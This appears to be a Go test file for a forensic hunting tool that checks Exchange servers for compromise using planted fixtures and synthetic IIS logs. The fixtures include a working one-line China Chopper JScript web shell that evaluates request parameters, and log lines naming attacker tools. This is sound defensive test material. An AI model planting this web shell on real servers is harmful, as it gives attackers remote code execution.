package hunt_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/exhunt/exhunt/internal/catalog"
	"github.com/exhunt/exhunt/internal/evidence"
	"github.com/exhunt/exhunt/internal/files"
	"github.com/exhunt/exhunt/internal/finding"
	"github.com/exhunt/exhunt/internal/hunt"
)

const (
	feRoot  = "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/"
	iisLog1 = "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"
	chopper = `<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>`
)

// iisLog is a front-end IIS log with the given request lines
// ("<time> <method> <stem> <status> <client ip> <user agent>").
func iisLog(lines ...string) []byte {
	var b strings.Builder
	b.WriteString("#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-03 00:00:00\r\n")
	b.WriteString("#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n")
	for _, l := range lines {
		f := strings.Fields(l)
		b.WriteString("2021-03-03 " + f[0] + " 10.0.0.5 " + f[1] + " " + f[2] + " - 443 - " + f[4] + " " + f[5] + " - " + f[3] + " 0 0 31\r\n")
	}
	return []byte(b.String())
}

// write creates files below dir, each with the given modification time.
func write(t *testing.T, dir string, files map[string][]byte, mtime time.Time) {
	t.Helper()
	for p, data := range files {
		full := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, data, 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Chtimes(full, mtime, mtime); err != nil {
			t.Fatal(err)
		}
	}
}

func huntWith(t *testing.T, cat *catalog.Catalog, opt hunt.Options, roots ...string) *finding.Result {
	t.Helper()
	set, err := evidence.Discover(context.Background(), roots, evidence.Options{})
	if err != nil {
		t.Fatal(err)
	}
	res, err := hunt.New(cat, opt).Run(context.Background(), set, roots)
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func loadCatalog(t *testing.T) *catalog.Catalog {
	t.Helper()
	cat, err := catalog.Load()
	if err != nil {
		t.Fatal(err)
	}
	return cat
}

func server(t *testing.T, res *finding.Result, name string) finding.Server {
	t.Helper()
	for _, s := range res.Servers {
		if s.Name == name {
			return s
		}
	}
	t.Fatalf("server %s not in result", name)
	return finding.Server{}
}

func findingKeys(s finding.Server) []string {
	var out []string
	for _, f := range s.Findings {
		k := f.Rule + " " + f.Source.String() + " " + string(f.Stage)
		if f.Supporting {
			k += " supporting"
		}
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// TestFileVerdicts: a web shell merely present makes a server compromised;
// one the IIS logs show answering makes it exploited, with the answering
// lines as evidence; archives in ProgramData alone leave it clean.
func TestFileVerdicts(t *testing.T) {
	dir := t.TempDir()
	planted := time.Date(2021, 3, 3, 9, 58, 12, 0, time.UTC)
	shellPath := feRoot + "owa/auth/Ykxa4tHB.aspx"
	write(t, dir, map[string][]byte{
		// used: answered twice, once refused
		"USED/" + shellPath: []byte(chopper),
		"USED/" + iisLog1: iisLog(
			"10:00:00 GET /owa/auth/Ykxa4tHB.aspx 200 203.0.113.9 Mozilla/5.0",
			"10:00:05 POST /owa/auth/ykxa4thb.aspx 200 203.0.113.9 antSword/v2.1",
			"10:01:00 POST /owa/auth/Ykxa4tHB.aspx 404 198.51.100.7 curl/7.68.0",
			"10:02:00 GET /owa/auth/logon.aspx 200 198.51.100.8 Mozilla/5.0"),
		// planted, never requested
		"PRESENT/" + shellPath: []byte(chopper),
		"PRESENT/" + iisLog1:   iisLog("10:02:00 GET /owa/auth/logon.aspx 200 198.51.100.8 Mozilla/5.0"),
		// only an antivirus archive in ProgramData
		"AVONLY/C/ProgramData/McAfee/Agent/FrameworkConfig.zip": []byte("PK\x03\x04"),
		"AVONLY/" + iisLog1: iisLog("10:02:00 GET /owa/auth/logon.aspx 200 198.51.100.8 Mozilla/5.0"),
		// an LSASS dump
		"DUMPED/C/Windows/Temp/lsass.dmp": []byte("MDMP"),
		"DUMPED/" + iisLog1:               iisLog("10:02:00 GET /owa/auth/logon.aspx 200 198.51.100.8 Mozilla/5.0"),
	}, planted)
	res := huntWith(t, loadCatalog(t), hunt.Options{}, dir)

	used := server(t, res, "USED")
	if used.Verdict != finding.VerdictExploited {
		t.Errorf("USED: verdict %s", used.Verdict)
	}
	keys := findingKeys(used)
	shellRel := "USED/" + shellPath
	for _, want := range []string{
		"webshell-file-answered USED/" + iisLog1 + ":5 execution",
		"webshell-file-answered USED/" + iisLog1 + ":6 execution",
		"file-nonstandard-script " + shellRel + " persistence",
		"yara:EXHUNT_WEBSHELL_Chopper_JScript_Eval " + shellRel + " persistence",
	} {
		if !slices.Contains(keys, want) {
			t.Errorf("USED: missing %q in %q", want, keys)
		}
	}
	for _, k := range keys {
		if strings.Contains(k, ":7 ") && strings.HasPrefix(k, "webshell-file-answered") {
			t.Errorf("USED: a refused request counted: %s", k)
		}
	}
	var ips []string
	for _, a := range used.Attackers {
		ips = append(ips, a.IP)
	}
	if !slices.Contains(ips, "203.0.113.9") {
		t.Errorf("USED: attackers %v", ips)
	}
	// the file's time joins the timeline, before the requests
	var tl []string
	for _, e := range used.Timeline {
		tl = append(tl, e.Time.Format("15:04:05")+" "+e.Rule)
	}
	if len(tl) == 0 || !strings.HasPrefix(tl[0], "09:58:12 ") {
		t.Errorf("USED: timeline %q", tl)
	}
	for _, f := range used.Findings {
		if f.Rule == "webshell-file-answered" && (f.Fields["shell_path"] != `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\Ykxa4tHB.aspx` || f.ClientIP != "203.0.113.9") {
			t.Errorf("USED: %+v", f)
		}
	}

	if p := server(t, res, "PRESENT"); p.Verdict != finding.VerdictCompromised {
		t.Errorf("PRESENT: verdict %s, findings %q", p.Verdict, findingKeys(p))
	}
	av := server(t, res, "AVONLY")
	if av.Verdict != finding.VerdictClean || !slices.Equal(findingKeys(av), []string{
		"file-staging-archive AVONLY/C/ProgramData/McAfee/Agent/FrameworkConfig.zip collection supporting"}) {
		t.Errorf("AVONLY: verdict %s, findings %q", av.Verdict, findingKeys(av))
	}
	if len(av.Timeline) != 1 || !strings.HasSuffix(av.Timeline[0].Summary, "(supporting evidence only)") {
		t.Errorf("AVONLY: timeline %+v", av.Timeline)
	}
	if d := server(t, res, "DUMPED"); d.Verdict != finding.VerdictExploited {
		t.Errorf("DUMPED: verdict %s, findings %q", d.Verdict, findingKeys(d))
	}
	// coverage per location, with the size cap
	for _, c := range used.Coverage {
		if strings.HasPrefix(c.Source, "file:") && (c.Source != "file:exchange-frontend" || c.Files != 1 || c.Bytes != int64(len(chopper)) || c.SizeCap <= 0) {
			t.Errorf("USED: coverage %+v", c)
		}
	}
}

// TestSupportingBacked: an archive in ProgramData counts once an exploit
// is known to have reached the server.
func TestSupportingBacked(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, map[string][]byte{
		"EX/C/ProgramData/it.zip":                  []byte("PK\x03\x04"),
		"EX/" + feRoot + "owa/auth/errorPage.aspx": []byte("x"),
		"EX/" + iisLog1:                            iisLog("10:02:00 GET /owa/auth/logon.aspx 200 198.51.100.8 Mozilla/5.0"),
	}, time.Date(2021, 3, 4, 0, 0, 0, 0, time.UTC))
	s := server(t, huntWith(t, loadCatalog(t), hunt.Options{}, dir), "EX")
	for _, f := range s.Findings {
		if f.Supporting {
			t.Errorf("still supporting: %s %s", f.Rule, f.Source)
		}
	}
	if s.Verdict != finding.VerdictCompromised {
		t.Errorf("verdict %s", s.Verdict)
	}
}

// TestFileGaps: skipped YARA rules, files over the size cap and unreadable
// files are reported, and the rest is hunted.
func TestFileGaps(t *testing.T) {
	dir := t.TempDir()
	ev := filepath.Join(dir, "case")
	write(t, ev, map[string][]byte{
		"EX/C/inetpub/wwwroot/aspnet_client/big.aspx": []byte(strings.Repeat("x", 5000)),
		"EX/C/inetpub/wwwroot/aspnet_client/s.aspx":   []byte(chopper),
		"EX/C/Windows/Temp/locked.bin":                []byte("x"),
		"EX/" + iisLog1:                               iisLog("10:02:00 GET /owa/auth/logon.aspx 200 198.51.100.8 Mozilla/5.0"),
	}, time.Now())
	user := filepath.Join(dir, "user.yar")
	os.WriteFile(user, []byte("import \"pe\"\nrule uses_pe { condition: pe.number_of_sections > 1 }\nrule broken { strings: $a = \"x\" condition: $a and }\nrule mine { strings: $a = \"Request.Item\" condition: $a and filename == \"s.aspx\" }\n"), 0o644)
	locked := filepath.Join(ev, "EX/C/Windows/Temp/locked.bin")
	if runtime.GOOS != "windows" && os.Geteuid() != 0 {
		os.Chmod(locked, 0)
		t.Cleanup(func() { os.Chmod(locked, 0o644) })
	}
	cat := loadCatalog(t)
	if err := cat.LoadYara(user); err != nil {
		t.Fatal(err)
	}
	res := huntWith(t, cat, hunt.Options{Files: files.Options{MaxScanBytes: 4096}}, ev)
	var gaps []string
	for _, g := range res.Gaps {
		gaps = append(gaps, g.String())
	}
	for _, want := range []string{user + ":2: rule uses_pe:", user + ":3:"} {
		if !slices.ContainsFunc(gaps, func(g string) bool { return strings.HasPrefix(g, want) }) {
			t.Errorf("no gap starting %q in %q", want, gaps)
		}
	}
	s := server(t, res, "EX")
	var sgaps []string
	for _, g := range s.Gaps {
		sgaps = append(sgaps, g.String())
	}
	if !slices.ContainsFunc(sgaps, func(g string) bool {
		return strings.HasPrefix(g, "EX/C/inetpub/wwwroot/aspnet_client/big.aspx: larger than the file hunt's size cap")
	}) {
		t.Errorf("no size-cap gap in %q", sgaps)
	}
	if runtime.GOOS != "windows" && os.Geteuid() != 0 && !slices.ContainsFunc(sgaps, func(g string) bool {
		return strings.HasPrefix(g, "EX/C/Windows/Temp/locked.bin: ") && strings.Contains(g, "permission denied")
	}) {
		t.Errorf("no gap for the unreadable file in %q", sgaps)
	}
	keys := findingKeys(s)
	for _, want := range []string{
		"yara:mine EX/C/inetpub/wwwroot/aspnet_client/s.aspx persistence",
		"file-nonstandard-script EX/C/inetpub/wwwroot/aspnet_client/big.aspx persistence",
	} {
		if !slices.Contains(keys, want) {
			t.Errorf("missing %q in %q", want, keys)
		}
	}
	for _, c := range s.Coverage {
		if c.Source == "file:inetpub-wwwroot" && (c.Skipped != 1 || c.SizeCap != 4096) {
			t.Errorf("coverage %+v", c)
		}
	}
}

// A hunt that reads host files as the walk finds them (RunStream, what
// exhunt hunt does) gives the result a hunt of the listed set gives,
// servers with host files only included.
func TestRunStreamSameResult(t *testing.T) {
	dir := t.TempDir()
	planted := time.Date(2021, 3, 3, 9, 58, 12, 0, time.UTC)
	write(t, dir, map[string][]byte{
		"USED/" + feRoot + "owa/auth/Ykxa4tHB.aspx": []byte(chopper),
		"USED/" + iisLog1: iisLog("10:00:00 GET /owa/auth/Ykxa4tHB.aspx 200 203.0.113.9 Mozilla/5.0"),
		"USED/C/inetpub/wwwroot/aspnet_client/ok.css": []byte("body{}"),
		"FILESONLY/C/Windows/Temp/lsass.dmp":          []byte("MDMP"),
		"FILESONLY/C/ProgramData/x.zip":               []byte("PK\x03\x04"),
	}, planted)
	now := func() time.Time { return planted }
	cat := loadCatalog(t)
	listed := huntWith(t, cat, hunt.Options{Now: now}, dir)
	streamed, err := hunt.New(cat, hunt.Options{Now: now}).RunStream(t.Context(), []string{dir},
		func(host func(*evidence.Server, *evidence.File)) (*evidence.Set, error) {
			return evidence.Stream(t.Context(), []string{dir}, evidence.Options{}, host)
		})
	if err != nil {
		t.Fatal(err)
	}
	a, _ := json.Marshal(listed)
	b, _ := json.Marshal(streamed)
	if string(a) != string(b) {
		t.Errorf("streamed hunt differs:\n%s\nlisted:\n%s", b, a)
	}
	if len(streamed.Servers) != 2 || server(t, streamed, "FILESONLY").Verdict == finding.VerdictClean {
		t.Errorf("servers %+v", streamed.Servers)
	}
}
